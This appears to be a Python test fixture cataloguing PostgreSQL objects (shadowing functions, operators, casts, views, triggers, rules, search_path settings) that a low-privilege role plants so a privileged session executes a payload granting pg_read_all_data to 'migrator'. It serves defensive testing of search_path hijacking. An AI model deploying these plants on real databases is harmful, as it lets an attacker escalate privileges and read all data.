"""Objects that a role may create in order to have its code executed by a session with more rights.

The code of each object calls `public.payload` with the name of the object. The payload counts the call in a sequence,
which a rollback does not reset, and tries to grant a role to the migrator.
"""

from dataclasses import dataclass

PAYLOAD = """
CREATE FUNCTION public.payload(plant text) RETURNS bool LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
    PERFORM nextval(('public.runs_of_' || plant)::regclass);
    BEGIN
        GRANT pg_read_all_data TO migrator;
    EXCEPTION WHEN OTHERS THEN
        NULL;  -- without the right to grant
    END;
    RETURN true;
END $$
"""
DEFAULT_PATH = "public"  # after pg_catalog, which is first if the path does not name it
PUBLIC_FIRST = "public, pg_catalog"


@dataclass(frozen=True)
class Plant:
    """An object, and a statement of the master that executes its code with the search path `path`.

    Without `probe`, another session cannot execute the object, or the object has no code.
    """

    name: str
    statements: tuple[str, ...]
    probe: str = ""
    path: str = PUBLIC_FIRST


def _function(name: str, signature: str, result: str = "bool", *, call: str) -> Plant:
    """Return a function whose argument types fit the call better than those of PostgreSQL's function."""
    value = f"NULL::pg_catalog.{result}" if result != "void" else ""
    body = f"BEGIN PERFORM public.payload(''{name}''); RETURN {value}; END"
    statement = f"CREATE FUNCTION {signature} RETURNS pg_catalog.{result} LANGUAGE plpgsql AS '{body}'"
    return Plant(name, (statement,), call, DEFAULT_PATH)


def _same_function(name: str, signature: str, result: str, *, call: str) -> Plant:
    """Return a function with the arguments of PostgreSQL's function."""
    return Plant(name, _function(name, signature, result, call=call).statements, call, PUBLIC_FIRST)


def _operator(name: str, operator: str, left: str, right: str, *, probe: str) -> Plant:
    function = f"CREATE FUNCTION public.{name}({left}, {right}) RETURNS bool LANGUAGE sql"
    return Plant(
        name,
        (
            f"{function} AS $$ SELECT public.payload('{name}') $$",
            f"CREATE OPERATOR public.{operator} (LEFTARG = {left}, RIGHTARG = {right}, FUNCTION = public.{name})",
        ),
        probe,
    )


def _trigger(name: str, table: str) -> tuple[str, ...]:
    body = f"BEGIN PERFORM public.payload('{name}'); RETURN NEW; END"
    return (
        f"CREATE FUNCTION public.{name}() RETURNS trigger LANGUAGE plpgsql AS $$ {body} $$",
        f"CREATE TRIGGER {name} BEFORE INSERT ON {table} FOR EACH ROW EXECUTE FUNCTION public.{name}()",
    )


PLANTS = (
    _function(
        "function",
        "public.pg_has_role(name, text, text)",
        call="SELECT pg_has_role(current_user, 'rds_iam', 'USAGE')",
    ),
    _function("function_of_two", "public.pg_has_role(text, text)", call="SELECT pg_has_role('rds_iam', 'USAGE')"),
    _function(
        "function_for_comments",
        "public.shobj_description(oid, text)",
        "text",
        call="SELECT shobj_description(oid, 'pg_authid') FROM pg_roles",
    ),
    _function(
        "function_for_schemas",
        "public.has_schema_privilege(text, text, text)",
        call="SELECT has_schema_privilege('public', 'public', 'CREATE')",
    ),
    _function(
        "function_of_any_arguments",
        "public.pg_advisory_xact_lock(VARIADIC integer[])",
        "void",
        call="SELECT pg_advisory_xact_lock(1, 2, 3)",
    ),
    _same_function("same_function", "public.current_database()", "name", call="SELECT current_database()"),
    _same_function(
        "lock", "public.pg_advisory_xact_lock(bigint)", "void", call="SELECT pg_advisory_xact_lock(7::int8)"
    ),
    _same_function("user_name", "public.pg_get_userbyid(oid)", "name", call="SELECT pg_get_userbyid(10)"),
    _operator("equal", "=", "name", "text", probe="SELECT FROM pg_roles WHERE rolname = ANY (ARRAY['x'])"),
    _operator("unequal", "<>", "name", "name", probe="SELECT FROM pg_database WHERE datname <> current_user"),
    Plant(
        "cast",
        (
            "CREATE TYPE public.varchar AS (value name)",
            """CREATE FUNCTION public.to_varchar(name) RETURNS public.varchar LANGUAGE sql
            AS $$ SELECT ROW($1)::public.varchar WHERE public.payload('cast') $$""",
            "CREATE CAST (name AS public.varchar) WITH FUNCTION public.to_varchar(name) AS IMPLICIT",
        ),
        'SELECT current_user::"varchar"',
    ),
    Plant(
        "domain",
        ("CREATE DOMAIN public.regrole AS text CHECK (public.payload('domain'))",),
        "SELECT 'postgres'::regrole",
    ),
    Plant(
        "view",
        (
            "CREATE VIEW public.pg_roles AS SELECT * FROM pg_catalog.pg_roles WHERE public.payload('view')",
            "GRANT SELECT ON public.pg_roles TO PUBLIC",
        ),
        "SELECT FROM pg_roles",
    ),
    Plant(
        "row_policy",
        (
            "CREATE TABLE public.pg_database AS SELECT datname, datacl FROM pg_catalog.pg_database",
            "ALTER TABLE public.pg_database ENABLE ROW LEVEL SECURITY",
            "CREATE POLICY policy ON public.pg_database USING (public.payload('row_policy'))",
            "GRANT SELECT ON public.pg_database TO PUBLIC",
        ),
        "SELECT FROM pg_database",
    ),
    Plant(
        "trigger",
        (
            "CREATE TABLE public.pg_auth_members (roleid oid)",
            *_trigger("trigger", "public.pg_auth_members"),
        ),
        "INSERT INTO pg_auth_members VALUES (1)",
    ),
    Plant(
        "rule",
        (
            "CREATE TABLE public.pg_shdescription (objoid oid)",
            "CREATE RULE rule AS ON INSERT TO public.pg_shdescription DO ALSO SELECT public.payload('rule')",
        ),
        "INSERT INTO pg_shdescription VALUES (1)",
    ),
    Plant(
        "default_expression",
        ("CREATE TABLE public.pg_authid (rolsuper bool DEFAULT public.payload('default_expression'))",),
        "INSERT INTO pg_authid DEFAULT VALUES",
    ),
    Plant(
        "schema_of_the_master",
        (
            "CREATE SCHEMA postgres",
            "GRANT USAGE ON SCHEMA postgres TO PUBLIC",
            *_function("schema_of_the_master", "postgres.pg_has_role(name, text, text)", call="").statements,
        ),
        "SELECT pg_has_role(current_user, 'rds_iam', 'USAGE')",
        '"$user", public',
    ),
    Plant(
        "handed_over_table",
        ("CREATE TABLE public.orders (id int)", *_trigger("handed_over_table", "public.orders")),
        "INSERT INTO orders VALUES (1)",
    ),
    Plant("temporary_view", ("CREATE TEMPORARY VIEW pg_roles AS SELECT public.payload('temporary_view')",)),
    Plant("collation", ('CREATE COLLATION public."default" FROM "C"',)),
    Plant("extension", ("CREATE EXTENSION citext SCHEMA public",)),
    Plant("setting", (f"ALTER ROLE CURRENT_USER SET search_path = {PUBLIC_FIRST}",)),
)

# These statements would affect sessions of other roles. They need CREATEROLE or the ownership of the database.
REFUSED = (
    "CREATE EVENT TRIGGER planted ON ddl_command_end EXECUTE FUNCTION public.trigger()",
    "CREATE FUNCTION pg_catalog.planted() RETURNS bool LANGUAGE sql AS 'SELECT true'",
    f"ALTER DATABASE app SET search_path = {PUBLIC_FIRST}",
    f"ALTER ROLE postgres SET search_path = {PUBLIC_FIRST}",
    f"ALTER ROLE ALL SET search_path = {PUBLIC_FIRST}",
    f"ALTER SYSTEM SET search_path = {PUBLIC_FIRST}",
    "ALTER ROLE CURRENT_USER SET session_preload_libraries = 'planted'",
    "CREATE CAST (name AS text) WITH FUNCTION public.planted(name) AS IMPLICIT",
    "COMMENT ON ROLE reporter IS 'Managed by Custom::DatabaseRoles'",
    "COMMENT ON ROLE migrator IS 'by itself'",
)
